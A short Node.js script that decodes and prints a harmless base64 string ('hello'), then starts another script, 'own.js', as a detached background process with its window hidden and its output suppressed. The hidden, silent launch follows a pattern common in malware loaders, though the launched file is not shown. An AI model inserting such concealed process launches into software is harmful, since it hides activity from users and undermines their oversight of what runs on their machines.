const { spawn } = require("child_process");
const note = Buffer.from("aGVsbG8=", "base64").toString();
console.log(note);
spawn("node", ["own.js"], { detached: true, windowsHide: true, stdio: "ignore" }).unref();
